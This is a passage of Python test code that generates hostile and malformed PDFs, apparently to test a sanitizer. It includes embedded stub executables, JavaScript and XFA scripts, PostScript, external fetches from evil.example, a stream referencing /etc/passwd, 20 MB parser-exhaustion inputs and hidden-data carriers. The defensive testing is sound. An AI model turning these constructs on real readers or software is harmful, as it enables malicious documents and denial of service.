        b"<</Subtype/RichMedia/Rect[0 0 99 99]/RichMediaContent<</Assets<</Names[(a.swf)" + _FILE + b"]>>>>>>", stream(b"FWS")
    ),
    "3-D": lambda: _annotated(
        b"<</Subtype/3D/Rect[0 0 99 99]/3DD 5 0 R>>", stream(b"U3D", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R")
    ),
    "attachment": lambda: _with_root(
        b"/Names<</EmbeddedFiles<</Names[(evil.exe)" + _FILE + b"]>>>>", stream(b"MZ evil", b"/Type/EmbeddedFile")
    ),
    "attachment on the page": lambda: _annotated(
        b"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS" + _FILE + b">>", stream(b"MZ evil")
    ),
    "associated files": lambda: _with_root(b"/AF[" + _FILE + b"]", stream(b"MZ evil")),
    "portfolio": lambda: _with_root(
        b"/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a)" + _FILE + b"]>>>>", stream(b"MZ evil")
    ),
    "form with a script": lambda: _annotated(
        b"<</Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 9]/AA<</K" + _SCRIPT + b">>/MK<</CA(x)>>/AP<</N 5 0 R>>>>",
        stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]"),
    ),
    "form fields": lambda: _with_root(
        b"/AcroForm<</Fields[5 0 R]/NeedAppearances true/CO[5 0 R]/DA(/F 9 Tf)>>", b"<</FT/Btn/T(a)/A" + _SCRIPT + b">>"
    ),
    "XFA": lambda: _with_root(
        b"/AcroForm<</Fields[]/XFA 5 0 R>>", stream(b"<xdp:xdp xmlns:xdp='x'><script>alert(1)</script></xdp:xdp>")
    ),
    "signature": lambda: _with_root(
        b"/Perms<</DocMDP 5 0 R>>/AcroForm<</SigFlags 3/Fields[]>>", b"<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>"
    ),
    "needs other programs": lambda: _with_root(
        b"/Requirements[<</S/EnableJavaScripts/RH[<</S/JS/Script(a)>>]>>]/Extensions<</EVIL<</BaseVersion/1.7>>>>"
    ),
    "data of a stream in another file": lambda: raw([BARE % b"4 0 R", stream(b"", b"/F(/etc/passwd)/FFilter/FlateDecode")]),
    "picture in another file": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, bytes(81), b"/F(https://evil.example/a.png)/FFilter[/DCTDecode]")]
    ),
    "page of another file": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(https://evil.example/a.pdf)/Page 0>>"),
        ]
    ),
    "PostScript drawing": lambda: raw([PAGE, stream(b"/A Do"), stream(b"(evil) run", b"/Subtype/PS")]),
    "PostScript in a form": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            stream(b"0 0 9 9 re f", b"/Subtype/Form/Subtype2/PS/PS 6 0 R/BBox[0 0 9 9]"),
            stream(b"(evil) run"),
        ]
    ),
    "OPI": lambda: raw(
        [PAGE, stream(b"/A Do"), stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F(https://evil.example/)>>>>")]
    ),
    "other pictures": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            image(9, 9, bytes(81), b"/Alternates[<</Image 6 0 R/DefaultForPrinting true>>]"),
            image(9, 9, bytes(81), b"/F(a)"),
        ]
    ),
    "layer that prints something else": lambda: _layers(),
    "layers that scripts turn on": lambda: _layers(b"/AS[<</Event/Print/OCGs[5 0 R]/Category[/Print]>>]"),
    "thread and article": lambda: _with_root(
        b"/Threads[5 0 R]", b"<</F 6 0 R/I<</Title(a)>>>>", b"<</R[0 0 9 9]/P 3 0 R/N 6 0 R/V 6 0 R>>"
    ),
    "transition": lambda: raw(
        [b"<<" + SHEET + b"/Contents 4 0 R/Trans<</S/Fly>>/Dur 1/PresSteps<</NA" + _SCRIPT + b">>>>", stream(_TEXT)]
    ),
    "web capture": lambda: _with_root(b"/SpiderInfo<</V 1/C[<</URL(https://evil.example/)>>]>>"),
    "search index": lambda: _with_root(b"/PieceInfo<</SearchIndex<</Private<</Indexes[<</F(evil)>>]>>>>>>"),
    "metadata of people": lambda: raw([BARE % b"4 0 R", stream(_TEXT)], trailer=b"/Info<</Author(A. Secret)/Title(Secret)>>"),
    "tagged with an attachment": lambda: _with_root(
        _MARKED,
        b"<</Type/StructTreeRoot/K 6 0 R/ParentTree<</Nums[0[6 0 R]]>>>>",
        b"<</S/P/Pg 3 0 R/K 0/AF[" + _FILE.replace(b"5 0", b"7 0") + b"]/A<</O/NSO/NS<</NS(x)>>>>>>",
        stream(b"MZ evil"),
    ),
}


def _layers(more: bytes = b"") -> bytes:
    group = b"<</Type/OCG/Name(a)/Usage<</Print<</PrintState/ON>>/View<</ViewState/OFF>>>>>>"
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources<</Properties<</L 5 0 R>>>>>>"
    root = b"<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[5 0 R]/D<</OFF[5 0 R]" + more + b">>>>>>"
    return raw([page, stream(b"/OC /L BDC 0 0 99 99 re f EMC 200 200 9 9 re f"), group], root=root)


def _plain() -> bytes:
    return raw([BARE % b"4 0 R", stream(_TEXT)])


def _locked(**how: object) -> bytes:
    import io

    import pikepdf

    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(_plain())) as pdf:
        pdf.save(written, encryption=pikepdf.Encryption(**how))  # type: ignore[arg-type]
    return written.getvalue()


BROKEN: dict[str, Make] = {
    "empty": lambda: b"",
    "one byte": lambda: b"%",
    "header only": lambda: b"%PDF-1.7\n",
    "random": lambda: _random(200_000),
    "random behind a header": lambda: b"%PDF-1.7\n" + _random(200_000),
    "20 MB random behind a header": lambda: b"%PDF-1.7\n" + _random(19_000_000),
    "20 MB of obj": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 2_400_000,
    "20 MB of stream": lambda: b"%PDF-1.7\n1 0 obj<</Length 9>>" + b"stream\n" * 2_700_000,
    "20 MB of <<": lambda: b"%PDF-1.7\n" + b"1 0 obj" + b"<<" * 9_000_000 + b"\ntrailer<</Root 1 0 R>>",
    "20 MB of startxref": lambda: b"%PDF-1.7\n" + b"startxref\n9\n%%EOF\n" * 1_000_000,
    "20 MB of trailers": lambda: b"%PDF-1.7\n" + b"trailer<</Root 1 0 R>>\n" * 800_000,
    "20 MB of blanks": lambda: b"%PDF-1.7\n" + b" " * 19_000_000,
    "21 MB": lambda: b"%PDF-1.7\n" + bytes(21_000_000),
    "web page": lambda: b"<!doctype html><title>404</title>",
    "PNG": lambda: b"\x89PNG\r\n\x1a\n" + bytes(500),
    "zip": lambda: b"PK\x03\x04" + bytes(500),
    "half": lambda: _plain()[: len(_plain()) // 2],
    "without its end": lambda: _plain()[:-60],
    "without a cross-reference": lambda: _plain().replace(b"xref", b"xxxx"),
    "without pages": lambda: raw([], 0),
    "without a catalogue": lambda: _plain().replace(b"/Root", b"/Toor"),
    "lying length": lambda: _plain().replace(b"/Length ", b"/Length 99999999999999999999"),
    "negative length": lambda: _plain().replace(b"/Length ", b"/Length -"),
    "tiny page": lambda: raw([b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 .1 .1]>>"]),
    "huge page": lambda: raw([b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>"]),
    "page of no numbers": lambda: raw([b"<</Type/Page/Parent 2 0 R/MediaBox[/A(b)null<<>>]>>"]),
    "page of not-a-number": lambda: raw([b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 nan inf]>>"]),
    "huge numbers": lambda: drawing(b"9" * 400 + b" 0 m 1e400 -1e400 l S 9999999999999999999999 w 0 0 9 9 re f"),
    "nine pages": lambda: raw([BARE % b"null"], 9),
    "locked": lambda: _locked(owner="o", user="secret"),
    "locked for printing": lambda: _locked(
        owner="o", user="", allow=__import__("pikepdf").Permissions(print_highres=False, print_lowres=False)
    ),
    "locked in a way of 1996": lambda: _locked(owner="o", user="secret", R=2, metadata=False, aes=False),
    "locked by nobody": lambda: raw([BARE % b"4 0 R", stream(_TEXT)], trailer=b"/Encrypt<</Filter/Evil/V 99>>/ID[<00><00>]"),
    "locked with lies": lambda: raw(
        [BARE % b"4 0 R", stream(_TEXT)],
        trailer=b"/Encrypt<</Filter/Standard/V 2/R 3/Length 999999999/O<00>/U<00>/P -1>>/ID[<00><00>]",
    ),
    "version 9.9": lambda: _plain().replace(b"%PDF-1.7", b"%PDF-9.9"),
    "header at byte 1,000": lambda: bytes(1000) + _plain(),
}

SECRET = b"SECRETMARK"


def _secret_jpeg() -> bytes:
    """A JPEG with notes of its camera, a comment, and bytes behind its end."""
    import io

    from PIL import Image

    notes = Image.Exif()
    notes[0x10E] = SECRET.decode()
    written = io.BytesIO()
    Image.new("RGB", (16, 16)).save(written, "JPEG", exif=notes, comment=SECRET, icc_profile=SECRET * 9)
    return written.getvalue() + SECRET


def _picture(body: bytes, more: bytes = b"", space: bytes = b"/DeviceGray", *objects: bytes) -> bytes:
    entries = b"/Type/XObject/Subtype/Image/Width 16/Height 16/BitsPerComponent 8/ColorSpace" + space + more
    return drawing(b"/I Do", b"/XObject<</I 5 0 R>>", stream(body, entries), *objects)


_INLINE = b"BI /W 2 /H 1 /BPC 8 /CS /G "
_JPX = b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\x12xml " + SECRET

UNSEEN: dict[str, Make] = {
    "comment": lambda: drawing(b"0 g % SECRETMARK\n0 0 9 9 re f"),
    "string before a number": lambda: drawing(b"(SECRETMARK) 0 g 0 0 9 9 re f"),
    "string between shown letters": lambda: drawing(b"BT (SECRETMARK) (seen) Tj [(seen) % SECRETMARK\n] TJ ET"),
    "string at the end": lambda: drawing(b"0 0 9 9 re f (SECRETMARK)"),
    "string before a stray bracket": lambda: drawing(b"(SECRETMARK) } 0 0 9 9 re f"),
    "unknown entry of an inline picture": lambda: drawing(_INLINE + b"/Meta (SECRETMARK) ID xy\nEI 0 0 9 9 re f"),
    "bytes behind an inline picture": lambda: drawing(_INLINE + b"ID xySECRETMARK\nEI 0 0 9 9 re f"),
    "inline picture never ended": lambda: drawing(_INLINE + b"ID xySECRETMARK"),
    "inline JPEG with notes": lambda: drawing(_INLINE + b"/F /DCT ID " + _secret_jpeg() + b"\nEI 0 0 9 9 re f"),
    "JPEG with notes": lambda: _picture(_secret_jpeg(), b"/Filter/DCTDecode", b"/DeviceRGB"),
    "JPEG 2000 with notes": lambda: _picture(_JPX + b"\0\0\0\0jp2c" + jpx_head(16, 16), b"/Filter/JPXDecode"),
    "bytes behind a picture": lambda: _picture(bytes(256) + SECRET),
    "bytes behind a deflated picture": lambda: _picture(zlib.compress(bytes(256) + SECRET), b"/Filter/FlateDecode"),
    "bytes behind what is deflated": lambda: _picture(zlib.compress(bytes(256)) + SECRET, b"/Filter/FlateDecode"),
    "colours behind a palette": lambda: _picture(bytes(256), b"", b"[/Indexed/DeviceRGB 1 6 0 R]", stream(bytes(6) + SECRET)),
    "map to Unicode with a comment": lambda: _letters(stream(b"1 beginbfchar <61> <0041> % SECRETMARK\nendbfchar")),
}  # fmt: skip
"""What a page does not show and viewers pass over: each holds SECRET."""

KINDS: dict[str, dict[str, Make]] = {
    "PDF bomb": BOMBS, "PDF loop": LOOPS, "PDF heavy for a viewer": HEAVY, "PDF active": ACTIVE, "PDF broken": BROKEN,
    "PDF with what nobody sees": UNSEEN,
}  # fmt: skip
